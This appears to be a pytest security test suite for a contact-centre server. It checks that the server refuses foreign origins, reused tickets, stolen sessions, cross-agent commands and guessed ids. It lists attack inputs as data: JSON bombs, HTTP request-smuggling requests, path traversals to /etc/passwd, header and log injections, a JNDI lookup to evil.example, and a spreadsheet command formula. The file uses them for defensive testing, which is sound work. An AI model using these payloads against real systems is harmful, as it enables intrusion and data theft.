"""Whoever has no right: foreign pages, old tickets, guessed ids, hostile text. All are refused.

One server is attacked by all tests; the last one reads its log. What is slow, silent or too much is
in ``test_attacks_flood``.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx2
import pytest
from websockets.exceptions import InvalidStatus

from ..conformance.client import Json, body_of, problem
from ..conformance.desk import Desk, offered, take
from ..conformance.process import ADMIN_KEY, Server
from .raw import UPGRADE, Raw

SECRET_WORDS: list[str] = [ADMIN_KEY]
"""Keys, tickets and texts of customers that were used here: none may be found in the log."""
BAD_ORIGINS = ("https://evil.example", "null", "file://", "http://127.0.0.1.evil.example")


async def key_of(desk: Desk, role: str, agent: str | None = None) -> str:
    """A new key."""
    body = {"role": role, "name": "attacker", **({"agent": agent} if agent else {})}
    key = str(body_of(await desk.api.post("/v1/keys", json=body), 201)["key"])
    SECRET_WORDS.append(key)
    return key


async def ticket_of(desk: Desk, **body: Any) -> str:
    """A new ticket."""
    ticket = await desk.ticket(**body)
    SECRET_WORDS.append(ticket)
    return ticket


async def code_of(desk: Desk, ticket: str) -> int:
    """The code a socket with this ticket is closed with."""
    socket = await desk.socket()
    await socket.say(type="hello", ticket=ticket)
    return await socket.closed()


# ------------------------------------------------------------ who speaks


async def test_a_page_of_another_site_opens_nothing(desk: Desk) -> None:
    for origin in (*BAD_ORIGINS, desk.server.base + "@evil.example", desk.server.base + ":1"):
        with pytest.raises(InvalidStatus, match="403"):
            await desk.socket(origin=origin)
    key = await key_of(desk, "supervisor")
    async with httpx2.AsyncClient(base_url=desk.server.base, trust_env=False) as browser:
        own = {"Origin": desk.server.base}
        body_of(await browser.post("/v1/session", json={"key": key}, headers=own), 200)
        asked = {"role": "supervisor"}
        for origin in BAD_ORIGINS:
            foreign = {"Origin": origin}
            problem(await browser.post("/v1/tickets", json=asked, headers=foreign), 403)
        problem(await browser.post("/v1/tickets", json=asked), 403)
        body_of(await browser.post("/v1/tickets", json=asked, headers=own), 201)


async def test_a_ticket_is_for_one_use_and_one_holder(desk: Desk) -> None:
    queue = await desk.queue()
    anna, mallory = await desk.agent("anna", queue), await desk.agent("mallory", queue)
    used = await ticket_of(desk, agent=anna)
    first = await desk.socket()
    assert (await first.greet(used))["ok"]
    for wrong in (used, used[:-1], used.swapcase(), used + "=", "", "../" * 20, "\x00" * 24):
        assert await code_of(desk, wrong) == 4500, wrong
    key = await key_of(desk, "agent", mallory)
    async with desk.api_with(key) as hers:
        for body in ({"agent": anna, "role": "agent"}, {"role": "supervisor"}):
            problem(await hers.post("/v1/tickets", json=body), 403)
        own = body_of(await hers.post("/v1/tickets", json={"role": "agent"}), 201)["ticket"]
        SECRET_WORDS.append(own)
    known = body_of(await desk.api.get("/v1/keys"), 200)["keys"]
    revoked = next(one["id"] for one in known if one.get("agent") == mallory)
    assert (await desk.api.delete(f"/v1/keys/{revoked}")).status_code == 204
    assert await code_of(desk, own) == 4500
    await first.do("set_presence", presence="available")


async def test_a_session_is_resumed_only_by_whoever_has_its_secret(desk: Desk) -> None:
    queue = await desk.queue()
    anna, mallory = await desk.agent("anna", queue), await desk.agent("mallory", queue)
    hers = await desk.connect(anna)
    stolen = hers.resume()
    for resume, agent in (({**stolen, "secret": "x" * 43}, anna), (stolen, mallory)):
        socket = await desk.socket()
        ticket = await ticket_of(desk, agent=agent)
        assert await socket.first_of(await socket.say_hello(ticket, resume)) == 4001
    await hers.do("set_presence", presence="available")


# ------------------------------------------------------------ whose it is


def fields(schema: Json, document: Json) -> Iterator[tuple[str, Any]]:
    """The required fields of a command, each with a value that its form allows."""
    for name in schema.get("required", ()):
        kind = schema["properties"][name]
        while "$ref" in kind:
            kind = document["components"]["schemas"][kind["$ref"].rsplit("/", 1)[1]]
        if "enum" in kind or "const" in kind:
            yield name, kind.get("const", kind.get("enum", [None])[0])
        else:
            kinds = {"integer": 1, "boolean": True, "object": {}, "array": []}
            yield name, kinds.get(str(kind.get("type")), "x")


def commands(document: Json) -> list[Json]:
    """Every command of the served description with what it must hold."""
    found = []
    for schema in document["components"]["schemas"].values():
        kind = schema.get("properties", {}).get("type", {})
        for name in kind.get("enum", [kind.get("const")]):
            if name and "ref" in schema.get("required", ()):
                found.append({**dict(fields(schema, document)), "type": name})
    return found


class Prey:
    """What another agent holds and is offered, and everything that can be read of it."""

    def __init__(self, desk: Desk) -> None:
        self._desk = desk

    async def settle(self) -> Prey:
        """Anna holds one conversation and is offered another; Mallory works in another queue."""
        desk = self._desk
        self.queue, self.other = await desk.queue(), await desk.queue("other")
        self.agent = await desk.agent("anna", self.queue, chats=2)
        self.thief = await desk.agent("mallory", self.other)
        self.socket = await desk.online(self.agent)
        self.held = await desk.create(self.queue)
        await take(self.socket, self.held)
        self.asked = await desk.create(self.queue)
        self.offer = str((await offered(self.socket, self.asked))["id"])
        self.before = await self.look()
        return self

    async def look(self) -> list[Json]:
        """The state of it all, without what only time changes."""
        desk = self._desk
        seen = [await desk.conversation(self.held), await desk.conversation(self.asked)]
        seen.append(body_of(await desk.api.get(f"/v1/queues/{self.queue}"), 200))
        seen.append(body_of(await desk.api.get(f"/v1/agents/{self.agent}"), 200))
        moving = ("log_position", "position", "waited_ms", "estimate", "as_of")
        return [{k: v for k, v in one.items() if k not in moving} for one in seen]

    def named(self, command: Json) -> Iterator[Json]:
        """The command about each thing of hers."""
        for conversation in (self.held, self.asked):
            ids = {
                "conversation": conversation,
                "offer": self.offer,
                "queue": self.queue,
                "agent": self.agent,
                "broadcast": "b",
                "incident": "i",
            }
            yield {**command, **{name: ids[name] for name in command.keys() & ids.keys()}}


async def test_no_command_of_an_agent_touches_what_is_anothers(desk: Desk) -> None:
    prey = await Prey(desk).settle()
    thief = await desk.connect(prey.thief)
    document = body_of(await desk.api.get("/asyncapi.json"), 200)
    own = ("hello", "set_presence", "pong")
    every = [one for one in commands(document) if one["type"] not in own]
    assert len({one["type"] for one in every}) > 20
    tried = [named for one in every for named in prey.named(one)]
    extra = {"queue": prey.other, "agent": prey.thief}
    tried += [
        {"type": "transfer", "conversation": prey.held, name: value}
        for name, value in extra.items()
    ]
    for at, command in enumerate(tried):
        if at % 30 == 29:
            thief = await desk.connect(prey.thief)
        said = {name: value for name, value in command.items() if name not in ("type", "ref")}
        answer = await thief.ask(command["type"], **said)
        assert answer["ok"] is False, (command, answer)
    assert await prey.look() == prey.before
    await prey.socket.do("accept", offer=prey.offer)


@pytest.mark.parametrize("role", ["agent", "ingest", "viewer"])
async def test_no_path_opens_to_who_guesses_ids(desk: Desk, role: str) -> None:
    prey = await Prey(desk).settle()
    key = await key_of(desk, role, prey.thief if role == "agent" else None)
    document = body_of(await desk.api.get("/openapi.json"), 200)
    ids = {"conversations": prey.asked, "queues": prey.queue, "agents": prey.agent}
    tried = 0
    async with desk.api_with(key) as hers:
        for path, methods in document["paths"].items():
            if "{" not in path:
                continue
            id_ = ids.get(path.split("/")[2], "1")
            for method in methods:
                at = re.sub(r"\{\w+\}", id_, path)
                answer = await hers.request(method.upper(), at, json={"reason": "abandoned"})
                if path == "/v1/presences/{id}" and method == "get":
                    continue
                assert answer.status_code in (400, 403, 404), (method, at, answer.text)
                tried += 1
    assert tried > 30
    assert await prey.look() == prey.before


# ------------------------------------------------------------ what is said


BY_MS = '{"type": "extend_wrap_up", "ref": "r", "conversation": "c", "by_ms": %s}'
SEEN = '{"type": "seen", "ref": "r", "offer": %s}'
BOMBS = {
    "doubled": SEEN % '"a", "offer": "b"',
    "doubled deep": SEEN % '"a", "x": {"y": 1, "y": 2}',
    "doubled by an escape": SEEN % '"a", "o\\u0066fer": "b"',
    "huge": BY_MS % ("9" * 9_000),
    "a float of the kind": BY_MS % "1e999",
    "2^63": BY_MS % (1 << 63),
    "deep lists": SEEN % ("[" * 4_000 + "]" * 4_000),
    "deep objects": SEEN % ('{"a":' * 2_500 + "1" + "}" * 2_500),
    "deep and open": "[" * 16_000,
    "a lone surrogate": SEEN % '"\\ud800"',
    "not a number": BY_MS % "NaN",
    "a prototype": SEEN % '"a", "__proto__": {"ok": true}',
}


async def test_bombs_in_a_frame_are_refused_and_the_session_lives(desk: Desk) -> None:
    socket = await desk.connect(await desk.agent("anna", await desk.queue()))
    for name, bomb in BOMBS.items():
        await socket.raw(bomb)
        after = await socket.ask("seen", offer="none")
        assert after["code"] == "unknown_offer", name
        refused = [reply for told in socket.replies.values() for reply in told]
        assert "frame_invalid" in [reply.get("code") for reply in refused], name
        assert not [reply for reply in refused if reply.get("ok")][1:], name
        socket.replies.clear()


BODIES = {
    "doubled": b'{"queue": "%s", "queue": "other"}',
    "doubled deep": b'{"queue": "%s", "attributes": {"a": {"b": 1, "b": 2}}}',
    "huge": b'{"queue": "%s", "priority": ' + b"9" * 20_000 + b"}",
    "huge deep": b'{"queue": "%s", "attributes": {"n": ' + b"9" * 5_000 + b"}}",
    "beyond 2^53": b'{"queue": "%s", "attributes": {"n": 9007199254740993}}',
    "infinite": b'{"queue": "%s", "attributes": {"n": 1e999}}',
    "deep": b'{"queue": "%s", "attributes": ' + b'{"a":' * 17 + b"1" + b"}" * 18,
    "very deep": b'{"queue": "%s", "attributes": ' + b"[" * 30_000,
    "control": b'{"queue": "%s", "subject": "a\\u0000b\\u001b[2J"}',
    "not utf-8": b'{"queue": "%s", "subject": "\xff\xfe"}',
}


async def test_bombs_in_a_body_are_refused_with_the_place(desk: Desk) -> None:
    queue = (await desk.queue()).encode()
    kind = {"Content-Type": "application/json"}
    for name, bomb in BODIES.items():
        body = bomb.replace(b"%s", queue)
        refusal = problem(await desk.api.post("/v1/conversations", content=body, headers=kind), 400)
        assert refusal["code"] == "body_invalid" and refusal["errors"][0]["path"], name
    assert (await desk.board_queue(queue.decode()))["waiting"] == 0


async def test_nothing_is_inflated(desk: Desk, target: Server) -> None:
    deflate = {"Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits"}
    async with await Raw.open(target.base) as raw:
        status, headers, _ = await raw.ask("GET", "/ws", UPGRADE | deflate)
        assert status == 101 and "sec-websocket-extensions" not in headers
    zipped = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    body = bytes.fromhex("1f8b08000000000002ff") + b"\x00" * 1_000
    problem(await desk.api.post("/v1/conversations", content=body, headers=zipped), 400, 415)


# ------------------------------------------------------------ headers, paths, logs


ODD_REQUESTS = {
    "a header in a header": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: b\r\n\tc\r\n: d\r\n\r\n",
    "a bare CR": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: b\rInjected: 1\r\n\r\n",
    "a NUL": b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: b\x00c\r\n\r\n",
    "two lengths": b"POST /v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
    b"Content-Length: 40\r\n\r\n{}",
    "length and chunks": b"POST /v1/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/keys HTTP/1.1\r\n\r\n",
    "a length of less than nothing": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "two hosts": b"GET /healthz HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    "an escape in the path": b"GET /\x1b[2J HTTP/1.1\r\nHost: x\r\n\r\n",
    "no HTTP at all": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 40 + b"\r\n\r\n",
    "no chunk after the answer": b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" + b"zz\r\n" * 4,
    "a body of crumbs": b"POST /v1/session HTTP/1.1\r\nHost: x\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 40_000,
    "too large a head": b"GET / HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 20_000 + b"\r\n\r\n",
    "too many headers": b"GET / HTTP/1.1\r\nHost: x\r\n" + b"a: b\r\n" * 4_000 + b"\r\n",
}
ODD_UPGRADES = {
    "posted": ("POST", {}),
    "no key": ("GET", {"Sec-WebSocket-Key": ""}),
    "a wrong version": ("GET", {"Sec-WebSocket-Version": "8"}),
    "no upgrade for it": ("GET", {"Connection": "keep-alive"}),
    "a very long header": ("GET", {"X-Long": "a" * 12_000}),
    "many subprotocols": ("GET", {"Sec-WebSocket-Protocol": "a," * 3_000 + "b"}),
    "a body": ("GET", {"Content-Length": "10"}),
}


async def test_no_request_is_two_and_none_stands_for_ever(target: Server) -> None:
    for name, request in ODD_REQUESTS.items():
        async with await Raw.open(target.base) as raw:
            await raw.write(request)
            answer = await raw.hung_up()
            heads = re.findall(rb"^HTTP/1.1 (\d+)", answer, re.MULTILINE)
            allowed = {b"200"} if name == "a header in a header" else set()
            assert len(heads) <= 1 and set(heads) <= {b"400", b"404", *allowed}, (name, answer)
            assert b"Injected" not in answer, (name, answer)


async def test_an_odd_upgrade_is_answered_and_ends(target: Server) -> None:
    async def ends(name: str) -> None:
        method, changed = ODD_UPGRADES[name]
        async with await Raw.open(target.base) as raw:
            status, _, _ = await raw.ask(method, "/ws", UPGRADE | changed)
            assert status != 200, name
            await raw.hung_up()

    await asyncio.gather(*map(ends, ODD_UPGRADES))


TRAVERSALS = (
    "../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\etc\\passwd",
    "..%5c..%5cetc%5cpasswd",
    "/etc/passwd",
    "//etc/passwd",
    "%00/etc/passwd",
    "js/../../pyproject.toml",
    "js%2f..%2f..%2fpyproject.toml",
    "%c0%ae%c0%ae/pyproject.toml",
    "js/agent.js%00.css",
)


async def test_no_path_leads_out_of_the_pages(target: Server, desk: Desk) -> None:
    page = (await desk.api.get("/login")).text
    found = re.search(r"/?static/([^/\"']+)/", page)
    version = found[1] if found else "none"
    for odd in TRAVERSALS:
        for path in (f"/static/{version}/{odd}", f"/static/{odd}", f"/{odd}", f"/v1/{odd}"):
            async with await Raw.open(target.base) as raw:
                status, headers, body = await raw.ask("GET", path)
                assert status in (400, 404), (path, status)
                assert b"root:" not in body and b"[project]" not in body, path
                assert "location" not in headers, path


EVIL_TEXTS = (
    "line\r\nSet-Cookie: interlock=stolen",
    "\x1b[2J\x1b]0;owned\x07",
    "2026-01-01 [info] a forged line",
    "\u2028\u2029\u0085",
    "%0d%0aX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "=cmd|'/c calc'!A1",
)


async def test_what_people_write_forges_neither_headers_nor_log_lines(desk: Desk) -> None:
    queue = await desk.queue()
    for evil in EVIL_TEXTS:
        SECRET_WORDS.append(evil)
        for path in (
            f"/v1/queues/{quote(evil)}",
            f"/{quote(evil)}",
            f"/v1/conversations/{quote(evil)}",
        ):
            answer = await desk.api.get(path)
            assert answer.status_code in (400, 404), path
            assert "x-injected" not in answer.headers and "set-cookie" not in answer.headers
        body = {"queue": queue, "subject": evil, "customer": {"name": evil}}
        assert (await desk.api.post("/v1/conversations", json=body)).status_code in (201, 400)
        wrong = await desk.api.get("/v1/board", headers={"Authorization": quote(f"Bearer {evil}")})
        assert wrong.status_code == 401
    socket = await desk.socket()
    await socket.raw(json.dumps({"type": "hello", "ref": "r", "ticket": EVIL_TEXTS[0]}))
    assert await socket.closed() in (4500, 4506)


async def test_each_refusal_was_counted(desk: Desk) -> None:
    told = (await desk.api.get("/metrics")).text
    lines = re.findall(r'^interlock_refusals_total\{reason="(\w+)"\} (\S+)', told, re.MULTILINE)
    counted = {reason for reason, count in lines if float(count)}
    assert {"origin", "ticket", "malformed"} <= counted, lines


async def test_the_log_tells_no_secret_and_no_line_of_others_making(
    desk: Desk, ground: Path
) -> None:
    log = (ground / "stderr.log").read_text(encoding="utf-8")
    for word in SECRET_WORDS:
        assert word not in log
    assert "Traceback" not in log, log[-4_000:]
    odd = {char for char in log if not char.isprintable() and char != "\n"}
    assert not odd, sorted(map(repr, odd))
    starts = re.compile(r"^\d{4}-\d\d-\d\dT[\d:.]+Z \[")
    assert not [line for line in log.splitlines() if line and not starts.match(line)]
    assert (await desk.api.get("/readyz")).status_code == 200
